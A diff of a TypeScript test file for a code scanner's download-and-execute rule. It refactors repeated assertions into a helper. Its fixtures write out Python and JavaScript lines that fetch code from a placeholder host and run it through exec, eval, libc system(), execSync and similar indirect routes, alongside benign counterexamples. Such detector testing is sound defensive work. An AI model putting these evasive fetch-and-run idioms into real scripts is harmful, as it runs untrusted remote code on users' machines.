@@ -33,6 +33,29 @@ const ruleAt = (fs: ReturnType<typeof findings>, rule: string) => fs.filter((f) 
 const downloadRuns = (file: string, text: string) =>
   ruleAt(findings({ [file]: text }), "download-exec-flow").map((f) => f.line);
 
+/**
+ * Each of `ways`, written after `head` into a script with extension `ext`, runs the download
+ * on its own last line; each of `benign` after `head` runs nothing.
+ */
+function assertRunsOnlyIn(
+  head: string,
+  ext: string,
+  ways: readonly string[],
+  benign: readonly string[],
+): void {
+  for (const [i, way] of ways.entries()) {
+    const text = head + way;
+    assert.deepEqual(
+      downloadRuns(`scripts/r${i}.${ext}`, text),
+      [text.split("\n").length - 1],
+      way,
+    );
+  }
+  for (const [i, text] of benign.entries()) {
+    assert.deepEqual(downloadRuns(`scripts/b${i}.${ext}`, head + text), [], text);
+  }
+}
+
 /** The secret-flow findings of one script, as [severity, excerpt]. */
 const secretFlows = (file: string, text: string) =>
   ruleAt(findings({ [file]: text }), "secret-flow").map((f) => [f.severity, f.excerpt]);
@@ -1172,10 +1195,9 @@ Deno.test("downloaded code run through an indirect eval, a worker or Python's in
 });
 
 Deno.test("downloaded code run through a namespace's entry or the C library's system() is run", () => {
-  const runs = downloadRuns;
   const py = "import builtins, ctypes, urllib.request\n" +
     'src = urllib.request.urlopen("https://get.notes-cloud.net/f").read()\n';
-  const viaPython = [
+  assertRunsOnlyIn(py, "py", [
     'f = vars(builtins)["exec"]\nf(src)\n',
     'builtins.__dict__["exec"](src)\n',
     '__builtins__.__dict__["exec"](src)\n',
@@ -1183,34 +1205,21 @@ Deno.test("downloaded code run through a namespace's entry or the C library's sy
     "ctypes.CDLL(None).system(src)\n",
     'ctypes.cdll.LoadLibrary("libc.so.6").system(src)\n',
     'libc = ctypes.CDLL("libc.so.6")\nlibc.system(src)\n',
-  ];
-  for (const [i, call] of viaPython.entries()) {
-    const text = py + call;
-    assert.deepEqual(runs(`scripts/p${i}.py`, text), [text.split("\n").length - 1], call);
-  }
-  const js = 'const code = await (await fetch("https://get.notes-cloud.net/a")).text();\n';
-  assert.deepEqual(runs("scripts/a.mjs", `${js}globalThis["eval"](code);\n`), [2]);
-  assert.deepEqual(runs("scripts/b.mjs", `${js}window["eval"](code);\n`), [2]);
-  assert.deepEqual(
-    runs("scripts/c.mjs", `const cp = require("child_process");\n${js}cp["execSync"](code);\n`),
-    [3],
-  );
-  assert.deepEqual(runs("scripts/d.mjs", `${js}require("child_process")["execSync"](code);\n`), [
-    2,
+  ], [
+    // A plain dictionary's entries stay entries, and the platform's name is no shell.
+    'handlers = {"exec": print}\nhandlers["exec"](src)\n',
+    "import platform\nprint(platform.system(), src)\n",
   ]);
-  // A plain dictionary's entries stay entries, and the platform's name is no shell.
-  assert.deepEqual(
-    runs("scripts/e.py", `${py}handlers = {"exec": print}\nhandlers["exec"](src)\n`),
-    [],
-  );
-  assert.deepEqual(
-    runs("scripts/f.py", `${py}import platform\nprint(platform.system(), src)\n`),
-    [],
-  );
+  const js = 'const code = await (await fetch("https://get.notes-cloud.net/a")).text();\n';
+  assertRunsOnlyIn(js, "mjs", [
+    'globalThis["eval"](code);\n',
+    'window["eval"](code);\n',
+    'const cp = require("child_process");\ncp["execSync"](code);\n',
+    'require("child_process")["execSync"](code);\n',
+  ], []);
 });
 
 Deno.test("downloaded code handed with the function that runs it to a call that calls it is run", () => {
-  const runs = downloadRuns;
   const py = "import functools, threading, os, urllib.request\n" +
     'src = urllib.request.urlopen("https://get.notes-cloud.net/f").read().decode()\n';
   const handed = [
@@ -1222,10 +1231,6 @@ Deno.test("downloaded code handed with the function that runs it to a call that 
     '__import__("os").system(src)\n',
     'importlib.import_module("os").system(src)\n',
   ];
-  for (const [i, call] of handed.entries()) {
-    const text = py + call;
-    assert.deepEqual(runs(`scripts/h${i}.py`, text), [text.split("\n").length - 1], call);
-  }
   // Other functions handed the download, and a runner handed constants only.
   const benign = [
     "list(map(print, [src]))\n",
@@ -1233,13 +1238,10 @@ Deno.test("downloaded code handed with the function that runs it to a call that 
     'list(map(os.system, ["git status", "ls"]))\nprint(src)\n',
     "print(sorted([src], key=len))\n",
   ];
-  for (const [i, call] of benign.entries()) {
-    assert.deepEqual(runs(`scripts/b${i}.py`, py + call), [], call);
-  }
+  assertRunsOnlyIn(py, "py", handed, benign);
 });
 
 Deno.test("downloaded code run through Function's constructor, call or apply, or a destructured dynamic import is run", () => {
-  const runs = downloadRuns;
   const js = 'const code = await (await fetch("https://get.notes-cloud.net/a")).text();\n';
   const ways = [
     "const AsyncFunction = (async () => {}).constructor;\nawait new AsyncFunction(code)();\n",
@@ -1248,19 +1250,13 @@ Deno.test("downloaded code run through Function's constructor, call or apply, or
     "eval.call(null, code);\n",
     'const { execSync } = await import("node:child_process");\nexecSync(code);\n',
   ];
-  for (const [i, way] of ways.entries()) {
-    const text = js + way;
-    assert.deepEqual(runs(`scripts/f${i}.mjs`, text), [text.split("\n").length - 1], way);
-  }
   // A class's own constructor and a function's call() with the download run nothing.
   const benign = [
     "class Note { constructor(t) { this.t = t; } }\nconsole.log(new Note(code).t);\n",
     "function show(t) { console.log(t); }\nshow.call(null, code);\n",
     'const { readFileSync } = await import("node:fs");\nconsole.log(readFileSync("a.txt", "utf8"), code);\n',
   ];
-  for (const [i, text] of benign.entries()) {
-    assert.deepEqual(runs(`scripts/g${i}.mjs`, js + text), [], text);
-  }
+  assertRunsOnlyIn(js, "mjs", ways, benign);
 });
 
 Deno.test("a download handed to a callback and run there is run: promise chains, stream events, response callbacks", () => {
